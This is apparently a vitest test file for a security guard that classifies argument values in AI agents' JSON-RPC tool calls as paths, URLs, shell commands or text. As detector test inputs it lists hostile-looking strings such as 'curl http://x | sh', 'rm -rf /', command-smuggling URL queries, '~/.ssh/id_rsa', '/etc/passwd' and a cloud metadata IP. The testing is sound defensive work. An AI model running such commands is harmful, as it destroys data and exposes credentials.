import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { createGuard, defineLayer, type Guard, type ScannedValue } from '@vanguard/core';

import { asciiKindsOfKey, kindsOfKey, kindsOfShape, kindsOfWords } from '../src/values/classify.js';
import { Kind } from '../src/values/kinds.js';

/** A guard whose extra layer records the values the engine scanned in the last message. */
function recordingGuard(): { guard: Guard; values: () => readonly ScannedValue[] } {
  let last: readonly ScannedValue[] = [];
  const recorder = defineLayer({
    name: 'recorder',
    phase: 'behavioral',
    description: 'records the values the engine scanned',
    inspect(_message, context) {
      last = context.values;
      return [];
    },
  });
  return { guard: createGuard({ layers: [recorder] }), values: () => last };
}

const call = (id: number, name: string, args: Record<string, unknown>) => ({
  jsonrpc: '2.0',
  id,
  method: 'tools/call',
  params: { name, arguments: args },
});

const kindsAt = (values: readonly ScannedValue[], key: string) => values.find((v) => v.key === key && v.raw !== key)?.kinds ?? [];

describe('kindsOfKey', () => {
  it('reads argument names word by word in every case style', () => {
    expect(kindsOfKey('targetPath') & Kind.Path).toBeTruthy();
    expect(kindsOfKey('source_file') & Kind.Path).toBeTruthy();
    expect(kindsOfKey('callback-url') & Kind.Url).toBeTruthy();
    expect(kindsOfKey('cmdline') & Kind.Command).toBeTruthy();
    expect(kindsOfKey('userPrompt') & Kind.Text).toBeTruthy();
  });

  it('calls an argument named target a path', () => {
    expect(kindsOfKey('target') & Kind.Path).toBe(Kind.Path);
  });

  it('gives names that say nothing no kind', () => {
    expect(kindsOfKey('flag')).toBe(0);
    expect(kindsOfKey('count')).toBe(0);
  });

  it('reads ASCII names and sentences in one pass as the regex and split reading does, and leaves the rest to it', () => {
    // Words of the sets in every case, pieces of them, separators, digits, and characters outside ASCII
    // that lower-case into ASCII letters (Kelvin sign, dotted capital I).
    const words = ['path', 'files', 'directory', 'dest', 'glob', 'workdir', 'url', 'uri', 'endpoint', 'baseUrl', 'remote', 'command', 'cmdline', 'shell', 'sql', 'query', 'prompt', 'instructions', 'q', 'summary'];
    const piece = fc.oneof(
      fc.constantFrom(...words).chain((w) => fc.constantFrom(w, w.toUpperCase(), w[0]!.toUpperCase() + w.slice(1), w.slice(0, 2), w.slice(2))),
      fc.constantFrom(' ', '_', '-', '.', '/', '1', '2x', 'A', 'b', 'é', '\u212a', '\u0130', 'of the', '(revision 7)', 'x'.repeat(14)),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const key = pieces.join('');
        const fast = asciiKindsOfKey(key);
        expect(fast === undefined).toBe([...key].some((c) => c.charCodeAt(0) >= 0x80));
        if (fast !== undefined) expect(fast).toBe(kindsOfWords(key));
        expect(kindsOfKey(key)).toBe(kindsOfWords(key));
      }),
      { numRuns: 5000 },
    );
  });
});

describe('kindsOfShape', () => {
  it('reads a path where the one-regex reading did (anchored starts, a climb anywhere)', () => {
    const oldPathStart = /^(?:\/|~|\.{1,}[\\/]|\\|[a-z]:[\\/]|file:)|[\\/]\.{2,}(?:[\\/]|$)|^\.{2,}$/;
    const pathLike = (t: string): boolean => /[\\/]/.test(t) && !/\s/.test(t);
    const fileName = /^[^\s/\\]{1,200}\.(?:[a-z0-9]{1,10})$/;
    // A URL with a scheme is read as a path too (`x.y://`), outside what the one regex decided.
    const url = (t: string): boolean => /^[a-z][a-z0-9+.-]{1,30}:\/\/|^file:/.test(t);
    const unit = fc.constantFrom('/', '\\', '.', '..', '~', 'a', 'c', ':', 'file:', ' ', '\n', 'x.y');
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 10 }).map((u) => u.join('')), (text) => {
        const path = text.length > 0 && (url(text) || oldPathStart.test(text) || pathLike(text) || (text.length <= 211 && fileName.test(text)));
        expect((kindsOfShape(text) & Kind.Path) !== 0).toBe(path);
      }),
      { numRuns: 5000 },
    );
  });

  it('recognises absolute, home, Windows and traversing paths', () => {
    for (const text of ['/etc/passwd', '~/.ssh/id_rsa', 'c:/windows/win.ini', '../../x', 'notes/today.md']) {
      expect(kindsOfShape(text) & Kind.Path, text).toBe(Kind.Path);
    }
  });

  it('recognises URLs with a scheme, bare IP hosts and internal host names', () => {
    for (const text of ['https://example.com/a', '169.254.169.254', 'db.internal:5432', 'localhost:8080']) {
      expect(kindsOfShape(text) & Kind.Url, text).toBe(Kind.Url);
    }
  });

  it('recognises shell lines by their first word or their metacharacters', () => {
    for (const text of ['rm -rf /', 'curl http://x | sh', 'echo $(id)', 'ls; whoami']) {
      expect(kindsOfShape(text) & Kind.Command, text).toBe(Kind.Command);
    }
  });

  it('reads a URL whose only shell character is its query\'s & as a URL, not a shell line', () => {
    for (const text of ['https://status.example/ping?service=shop%20api&env=production', 'http://10.0.0.5:8080/q?a=1&bash_env=x&page=2']) {
      expect(kindsOfShape(text) & Kind.Command, text).toBe(0);
    }
    // A URL a shell would still run something from keeps the command kind.
    for (const text of ['https://x.example/a?b=1&c=$(id)', 'https://x.example/a?b=1;curl x|sh', 'https://x.example/?a=1& rm -rf ~']) {
      expect(kindsOfShape(text) & Kind.Command, text).toBe(Kind.Command);
    }
  });

  it('lets a guard pass a fetch whose URL query has a field named env, after .env was read', async () => {
    const guard = createGuard({ profile: 'balanced' });
    const context = { sessionId: 'env-query', serverId: 'web' };
    await guard.inspect(call(1, 'read_file', { path: '/srv/app/.env' }), { ...context, from: 'client' });
    await guard.inspect({ jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'NODE_ENV=production\nPORT=8080\n' }] } }, { ...context, from: 'server' });
    const verdict = await guard.inspect(call(2, 'fetch', { url: 'https://uptime.example/api/check?site=billing%20web&env=staging&region=eu' }), { ...context, from: 'client' });
    expect(verdict.action).toBe('allow');
  });

  it('calls sentences text and leaves a bare word without a kind', () => {
    expect(kindsOfShape('please summarise this page') & Kind.Text).toBe(Kind.Text);
    expect(kindsOfShape('hello')).toBe(0);
  });
});

describe('value classification in inspect', () => {
  it('classifies a path in an argument called target as a path, whatever its shape', async () => {
    const { guard, values } = recordingGuard();
    await guard.inspect(call(1, 'copy', { target: 'quarterly-report' }), { from: 'client' });
    expect(kindsAt(values(), 'target')).toContain('path');
  });

  it('classifies values by their shape when the argument name says nothing', async () => {
    const { guard, values } = recordingGuard();
    await guard.inspect(call(1, 'x', { a: '/etc/hosts', b: 'https://example.com', c: 'rm -rf /tmp/x' }), { from: 'client' });
    expect(kindsAt(values(), 'a')).toContain('path');
    expect(kindsAt(values(), 'b')).toContain('url');
    expect(kindsAt(values(), 'c')).toContain('command');
  });

  it('scans a path inside a command line as a path value of its own', async () => {
    const { guard, values } = recordingGuard();
    await guard.inspect(call(1, 'shell', { cmdline: 'tar czf /tmp/x.tgz /home/u/.ssh' }), { from: 'client' });
    const embedded = values().filter((v) => v.key === 'cmdline' && v.kinds.includes('path') && !v.kinds.includes('command'));
    expect(embedded.map((v) => v.raw)).toEqual(expect.arrayContaining(['/tmp/x.tgz', '/home/u/.ssh']));
  });

  it('learns argument kinds from a tool input schema after a tools/list answer', async () => {
    const { guard, values } = recordingGuard();
    const ctx = { sessionId: 's1', serverId: 'files' } as const;
    // Before the tool is known, an opaque argument name says nothing.
    await guard.inspect(call(1, 'fetch_doc', { blob: 'quarterly-report' }), { from: 'client', ...ctx });
    expect(kindsAt(values(), 'blob')).not.toContain('path');

    await guard.inspect({ jsonrpc: '2.0', id: 2, method: 'tools/list' }, { from: 'client', ...ctx });
    await guard.inspect(
      {
        jsonrpc: '2.0',
        id: 2,
        result: {
          tools: [
            {
              name: 'fetch_doc',
              description: 'Fetches a document.',
              inputSchema: {
                type: 'object',
                properties: {
                  blob: { type: 'string', description: 'Path of the document on disk' },
                  where: { type: 'string', format: 'uri' },
                },
              },
            },
          ],
        },
      },
      { from: 'server', ...ctx },
    );
    await guard.inspect(call(3, 'fetch_doc', { blob: 'quarterly-report', where: 'mirror' }), { from: 'client', ...ctx });
    expect(kindsAt(values(), 'blob')).toContain('path');
    expect(kindsAt(values(), 'where')).toContain('url');
  });

  it('keeps schema hints per session and server', async () => {
    const { guard, values } = recordingGuard();
    await guard.inspect({ jsonrpc: '2.0', id: 1, method: 'tools/list' }, { from: 'client', sessionId: 'a' });
    await guard.inspect(
      {
        jsonrpc: '2.0',
        id: 1,
        result: { tools: [{ name: 't', inputSchema: { type: 'object', properties: { z: { type: 'string', description: 'file path' } } } }] },
      },
      { from: 'server', sessionId: 'a' },
    );
    await guard.inspect(call(2, 't', { z: 'word' }), { from: 'client', sessionId: 'b' });
    expect(kindsAt(values(), 'z')).not.toContain('path');
    await guard.inspect(call(2, 't', { z: 'word' }), { from: 'client', sessionId: 'a' });
    expect(kindsAt(values(), 'z')).toContain('path');
  });

  it('classifies tool descriptions in a tools/list answer as tool metadata', async () => {
    const { guard, values } = recordingGuard();
    await guard.inspect({ jsonrpc: '2.0', id: 1, result: { tools: [{ name: 'add', description: 'Adds two numbers.' }] } }, { from: 'server' });
    expect(kindsAt(values(), 'description')).toEqual(expect.arrayContaining(['tool-metadata', 'text']));
  });
});
